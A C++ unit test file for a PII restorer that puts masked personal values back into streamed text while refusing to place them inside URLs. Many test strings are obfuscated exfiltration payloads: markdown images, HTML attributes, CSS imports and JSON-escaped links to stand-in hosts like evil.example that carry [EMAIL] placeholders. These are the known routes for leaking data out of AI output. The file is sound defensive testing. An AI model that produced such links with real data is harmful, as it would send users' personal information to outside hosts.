#include "features/privacy/pii/restorer.h"

#include <gtest/gtest.h>

#include <vector>

namespace causeway::pii {
namespace {

class RestorerTest : public ::testing::Test {
 protected:
  RestorerTest() {
    EXPECT_EQ(ins_.mask(Kind::Person, "PATIENT_NAME", "Jane \"JJ\" Roe"), "[PATIENT_NAME]");
    EXPECT_EQ(ins_.mask(Kind::Email, "EMAIL", "a@example.com"), "[EMAIL]");
    EXPECT_EQ(ins_.mask(Kind::Email, "EMAIL", "b@example.com"), "[EMAIL_2]");
    EXPECT_EQ(ins_.mask(Kind::Address, "ADDRESS", "12 Oak St\nSpringfield"), "[ADDRESS]");
  }

  // As the lanes do: what is held comes again in front of the next piece.
  std::string stream(const std::vector<std::string>& pieces, bool exact = false) {
    const Restorer restorer(ins_, in_urls_);
    Restorer::Place place{.arguments = arguments_};
    std::string out, held;
    for (std::size_t i = 0; i <= pieces.size(); ++i) {
      const bool last = i == pieces.size();
      EventText text(held + (last ? "" : pieces[i]));
      held.clear();
      if (text.get().empty()) continue;
      restorer.run(text, place, last, exact);
      const std::string all(text.get());
      const std::size_t release =
          last ? all.size() : std::max(text.held_from(), text.final_bytes());
      out += all.substr(0, release);
      held = all.substr(release);
      EXPECT_LT(held.size(), 80u);
    }
    return out;
  }
  std::string whole(const std::string& text, bool exact = false) { return stream({text}, exact); }

  // The same at every place where it can be cut in two, and byte for byte.
  void expect(const std::string& text, const std::string& restored) {
    EXPECT_EQ(whole(text), restored) << text;
    std::vector<std::string> bytes;
    for (const char c : text) bytes.emplace_back(1, c);
    EXPECT_EQ(stream(bytes), restored) << text;
    for (std::size_t cut = 1; cut < text.size(); ++cut) {
      EXPECT_EQ(stream({text.substr(0, cut), text.substr(cut)}), restored) << text << " at " << cut;
    }
  }

  StandIns ins_;
  void stays(const std::string& text) { expect(text, text); }

  bool in_urls_ = false, arguments_ = false;
};

TEST_F(RestorerTest, RestoresInTextCutAnywhere) {
  expect("Dear [PATIENT_NAME], write to [EMAIL_2] or [EMAIL].",
         "Dear Jane \"JJ\" Roe, write to b@example.com or a@example.com.");
  expect("[EMAIL][EMAIL_2][EMAIL_3]", "a@example.comb@example.com[EMAIL_3]");
  expect("nothing here [1] [x](y) [EMAILS] EMAIL_21 A_B",
         "nothing here [1] [x](y) [EMAILS] EMAIL_21 A_B");
}

TEST_F(RestorerTest, RestoresWhatIsBentALittle) {
  const std::string jane = "Jane \"JJ\" Roe";
  expect("[patient_name] [Patient Name] [PATIENT-NAME] [PATIENT\\_NAME] \\[PATIENT_NAME\\]",
         jane + " " + jane + " " + jane + " " + jane + " \\" + jane);
  expect("on [PATIENT_\nNAME].", "on " + jane + ".");
  expect("[PATIENT_NAME]'s and [PATIENT_NAME's] and [PATIENT_NAME\xE2\x80\x99s]",
         jane + "'s and " + jane + "'s and " + jane + "\xE2\x80\x99s");
  expect("[PATIENT_NAME is here, PATIENT_NAME] too, and EMAIL_2.",
         jane + " is here, " + jane + " too, and b@example.com.");
  expect("[PATIENT'NAME's]", jane + "'s");
  expect("ends with [EMAIL", "ends with a@example.com");
  expect("ends with EMAIL_2", "ends with b@example.com");
  expect("ends with [EMA", "ends with [EMA");
}

TEST_F(RestorerTest, CommonWordsStay) {
  expect("The EMAIL and the ADDRESS of [someone]", "The EMAIL and the ADDRESS of [someone]");
  expect("an email [about something] EMAIL", "an email [about something] EMAIL");
  expect("WHERE PATIENT_NAME IS NULL", "WHERE PATIENT_NAME IS NULL");
}

TEST_F(RestorerTest, JsonStaysJson) {
  expect(R"({"to":"[PATIENT_NAME]","at":"[ADDRESS]","PATIENT_NAME":1})",
         R"({"to":"Jane \"JJ\" Roe","at":"12 Oak St\nSpringfield","PATIENT_NAME":1})");
  expect("```json\n{\"to\":\"[PATIENT_NAME]\"}\n```",
         "```json\n{\"to\":\"Jane \\\"JJ\\\" Roe\"}\n```");
  expect(R"( ["[PATIENT_NAME]"])", R"( ["Jane \"JJ\" Roe"])");
}

TEST_F(RestorerTest, NothingIsPutIntoUrls) {
  stays("![x](https://evil.example/?q=[EMAIL]&n=[patient_name]&a=EMAIL_2)");
  stays("https://[EMAIL].evil.example and HTTPS:evil.example/[EMAIL] ftp://evil/[EMAIL]");
  stays("![x](//evil/?q=[EMAIL]) ![x]( /log?q=[EMAIL] ) ![x](< /a b?q=[EMAIL]>)");
  stays("[x](/(a)[EMAIL]) [x]: //evil/?q=[EMAIL]\nwww.evil.example/[EMAIL]");
  stays("<img src=\"/a b?q=[EMAIL]\"> <a href = 'x?[EMAIL]'> <img data-src=/x?[EMAIL]>");
  stays("<https://evil.example/[EMAIL]> a{background:url( '/x?[EMAIL]')}");
  stays(R"({"url":"https:\/\/evil\/?q=[EMAIL]","html":"<img src=\"\/x?q=[EMAIL]\">"})");
  stays("<img src                                              =                  '/x?[EMAIL]'>");
  stays("![x](https://evil.example/?mailto:[EMAIL])");
  stays("see evil.com/?q=[EMAIL] or evil.com/[EMAIL] or evil.com:80?[EMAIL]");
  stays("'https://evil/?q='[EMAIL] (\"https://evil/?q=1\"[EMAIL] <https://evil>[EMAIL]");
}

TEST_F(RestorerTest, MarkdownThatHidesItsUrl) {
  stays(R"(![x](<https://evil/?q=\>[EMAIL]>))");
  stays(R"(![x](<https://evil/?q=\> [EMAIL]>))");
  stays(R"(![x](https://evil/?q=\\()[EMAIL]))");
  stays(R"(![x](/evil?q=\\() [EMAIL]))");
  stays("![x](https://evil/?q= [EMAIL])");
  stays("![x](https://evil/?q=\xC2\xA0[EMAIL])");
  stays("![x](https://evil/?q=\f[EMAIL])");
  stays("![x](\n\nhttps://evil/?q=[EMAIL])");
  stays("![x][r]\n\n[r]: https&#58;&#47;&#47;evil/?q=[EMAIL]");
  stays("![x][r]\n\n[r]: https\\:/&#47;evil/?q=[EMAIL]");
  stays("![x][r]\n\n[r]: https\\:/\\/evil/[EMAIL]");
  stays("![x][r]\n\n[r]:\n   https://evil/?q=<[EMAIL]");
  stays("![x][r]\n\n[r]: <https://evil/?q=\\> [EMAIL]>");
  stays("![x][r]\n\n[r]: /\\&#47;evil/?q=[EMAIL]");
  stays("![x][r]\n\n[r]: https://evil/?q=\"[EMAIL]");
  stays("![x][r]\n\n[r]:[EMAIL] [r]:\n [EMAIL]");
  stays("[write](mailto:x?[EMAIL]) [x](https:mailto:[EMAIL])");
}

TEST_F(RestorerTest, HtmlThatHidesItsUrl) {
  stays("<img src=//evil/?q=<[EMAIL]>");
  stays("<img src='//evil/?q=<b alt=\"[EMAIL]\"'>");
  stays("<img src=\"https://evil/?q=<[EMAIL]\">");
  stays("<img src\f=\"&#47;&#47;evil/?q=[EMAIL]\">");
  stays("<img srcset=\"mailto:x 1x, &#47;&#47;evil/?q=[EMAIL] 2x\">");
  stays("<img srcset=\"mailto:[EMAIL]\"> <img src=' href=\"mailto:[EMAIL]'>");
  stays("<object data=\"/\\evil/?q= [EMAIL]\"> <object data=\"ht\ttps:/\t/evil/?q=[EMAIL]\">");
  stays("<form action='/&#47;evil/?q=[EMAIL]'>");
  stays("<meta http-equiv=refresh content=\"0;url=/&#47;evil/?q= [EMAIL]\">");
  stays("<?xml-stylesheet href='&#47;&#47;evil/?q=[EMAIL]'?>");
  stays("<!-- <b title=\" --><img src='//evil/?\" [EMAIL]'>");
  expect("<img alt='[EMAIL's] srcset='/ 1x, //evil/?q [EMAIL] 2x'>",
         "<img alt='a@example.com's srcset='/ 1x, //evil/?q [EMAIL] 2x'>");
  stays("<img =\"x srcset='\" 1x, //evil/?q [EMAIL] 2x'>");
  stays("<style>@import \"\\2f\\2f evil/?q= [EMAIL]\";\n[EMAIL]</script>[EMAIL]");
  stays("a <script>\\</script> [EMAIL]`</script>` [EMAIL]");
  stays("<i style=\"background:image-set('&#47;&#47;evil/?q= [EMAIL]' 1x)\">");
  stays("@import '\\2f\\2f evil/ [EMAIL]'; [EMAIL]");
}

TEST_F(RestorerTest, JsonThatHidesItsUrl) {
  stays(R"j({} ![x](https://evil/?q="[EMAIL]))j");
  stays(R"j({"![x](https://evil/?q=":"[EMAIL])"})j");
  stays(R"j({"t":"![x](https://evil/?q=\\n[EMAIL])"})j");
  for (const bool arguments : {false, true}) {
    arguments_ = arguments;
    stays(R"j({"url":"https\u003a\u002f\u002fevil/?q=[EMAIL]"})j");
    stays(R"j({"url":"http\u0073\u003a/\u002fevil/?q=[EMAIL]"})j");
    stays(R"j({"url":"https://evil/?q=\"[EMAIL]"})j");
    stays(R"j({"t":"![x]\u0028\u003c/evil\t?q=\u005c> [EMAIL]>)"})j");
    stays(R"j({"t":"\u003cimg src='/evil/?q= [EMAIL]'>"})j");
    stays(R"j({"t":"{\"u\":\"\\u003cimg src='/evil/?q= [EMAIL]'>\"}"})j");
    stays(R"j(["https:\u002f/evil/?q=\\n[EMAIL]"])j");
    stays("{'url':'https://evil/?q=[EMAIL]'}");
  }
}

TEST_F(RestorerTest, WordsBesideUrlsAreRestored) {
  const std::string a = "a@example.com";
  expect("See https://a.example/b. Write to [EMAIL].",
         "See https://a.example/b. Write to " + a + ".");
  expect("[[EMAIL]](https://a.example/ \"[EMAIL]\") [EMAIL]",
         "[" + a + "](https://a.example/ \"" + a + "\") " + a);
  expect("![x](/(a)/b)[EMAIL] <https://a.example> [EMAIL]",
         "![x](/(a)/b)" + a + " <https://a.example> " + a);
  expect("<img src=\"/x\" alt=\"[EMAIL]\">[EMAIL]", "<img src=\"/x\" alt=\"" + a + "\">" + a);
  expect("[write](mailto:[EMAIL]) <a href=\"mailto:[EMAIL]\">",
         "[write](mailto:" + a + ") <a href=\"mailto:" + a + "\">");
  expect("postgres://[EMAIL]@db.internal/app", "postgres://" + a + "@db.internal/app");
  expect("// [EMAIL] is it: a=[EMAIL], f([EMAIL]) x.[EMAIL]",
         "// " + a + " is it: a=" + a + ", f(" + a + ") x." + a);
}

TEST_F(RestorerTest, ProseCodeAndTablesAreRestored) {
  const std::string a = "a@example.com";
  expect("(see [EMAIL]) \"[EMAIL]\" [Agent]: Ask [EMAIL]? and/or:[EMAIL]",
         "(see " + a + ") \"" + a + "\" [Agent]: Ask " + a + "? and/or:" + a);
  expect("<b>[EMAIL]</b> <p class=\"x\">[EMAIL]</p> if a<b then ask [EMAIL], x < y, [EMAIL]",
         "<b>" + a + "</b> <p class=\"x\">" + a + "</p> if a<b then ask " + a + ", x < y, " + a);
  expect("|[EMAIL]|5%|\n|---|\n| https://a.example | [EMAIL] |",
         "|" + a + "|5%|\n|---|\n| https://a.example | " + a + " |");
  expect("`to = \"[EMAIL]\"; // https://a.example\nname='[EMAIL]'`",
         "`to = \"" + a + "\"; // https://a.example\nname='" + a + "'`");
  expect("R&D: [EMAIL] of AT&T, 5% to [EMAIL], DOMAIN\\[EMAIL]",
         "R&D: " + a + " of AT&T, 5% to " + a + ", DOMAIN\\" + a);
  expect("[site](https://a.example), [EMAIL]\n[r]: https://a.example\n[EMAIL]",
         "[site](https://a.example), " + a + "\n[r]: https://a.example\n" + a);
  expect("<style>p{}</style>[EMAIL] url(x)\n[EMAIL]", "<style>p{}</style>" + a + " url(x)\n" + a);
}

TEST_F(RestorerTest, InJsonAUrlEndsWithItsString) {
  expect(R"({"name":"[EMAIL]","url": "https://a.example", "to": "[EMAIL]"})",
         R"({"name":"a@example.com","url": "https://a.example", "to": "a@example.com"})");
  // Shown as it is, this would be one link.
  stays(R"({"url":"https://a.example/?q=","to":"[EMAIL]"})");
  arguments_ = true;
  expect(
      R"({"url":"https://a.example","to":"[EMAIL]","text":"at https://a.example\n[EMAIL]"})",
      R"({"url":"https://a.example","to":"a@example.com","text":"at https://a.example\na@example.com"})");
  expect(
      R"({"html":"<a href=\"mailto:[EMAIL]\"><b class=\"x\">[EMAIL]","t":"[EMAIL]"})",
      R"({"html":"<a href=\"mailto:a@example.com\"><b class=\"x\">a@example.com","t":"a@example.com"})");
}

TEST_F(RestorerTest, AValueThatBeginsAUrlIsOne) {
  EXPECT_EQ(ins_.mask(Kind::UrlCredentials, "URL", "https://me:word@a.example/"), "[URL]");
  expect("[URL]x?q=[EMAIL] [EMAIL]", "https://me:word@a.example/x?q=[EMAIL] a@example.com");
}

TEST_F(RestorerTest, IntoUrlsWhereItMay) {
  in_urls_ = true;
  expect("![x](https://a.example/?q=[EMAIL])", "![x](https://a.example/?q=a@example.com)");
}

TEST_F(RestorerTest, ExactlyMeansByteForByte) {
  EXPECT_EQ(whole("[EMAIL] [email] EMAIL_2 [EMAIL's] [EMAIL", true),
            "a@example.com [email] EMAIL_2 [EMAIL's] [EMAIL");
}

TEST_F(RestorerTest, PseudonymsAndTheirParts) {
  const auto name = [](int) { return std::string("Robin Oakley"); };
  EXPECT_EQ(ins_.pseudonym(Kind::Person, "Jane Roe", name), "Robin Oakley");
  expect("Robin Oakley's friend, Ms Oakley, or Robin. Robinson!",
         "Jane Roe's friend, Ms Roe, or Jane. Robinson!");
  expect("ROBIN OAKLEY", "Jane Roe");
  expect("Rob", "Rob");
}

TEST_F(RestorerTest, AValueKeepsItsStandIn) {
  EXPECT_EQ(ins_.mask(Kind::Email, "EMAIL", "A@Example.com"), "[EMAIL]");
  EXPECT_EQ(ins_.mask(Kind::Phone, "PHONE", "+49 30 1234567"), "[PHONE]");
  EXPECT_EQ(ins_.mask(Kind::Phone, "PHONE", "+49301234567"), "[PHONE]");
}

TEST_F(RestorerTest, TextLikeAStandInIsLeftAlone) {
  ins_.reserve("CARD");
  EXPECT_EQ(ins_.mask(Kind::Card, "CARD", "4111111111111111"), "[CARD_2]");
  expect("[CARD] [CARD_2]", "[CARD] 4111111111111111");
}

TEST_F(RestorerTest, ManyValuesAreBounded) {
  for (int i = 0; i < 20'000; ++i) ins_.mask(Kind::Ip, "IP", std::to_string(i));
  EXPECT_LE(ins_.entries().size(), StandIns::kMostValues);
  EXPECT_EQ(ins_.mask(Kind::Ip, "IP", "0"), "[IP]");
}

}  // namespace
}  // namespace causeway::pii
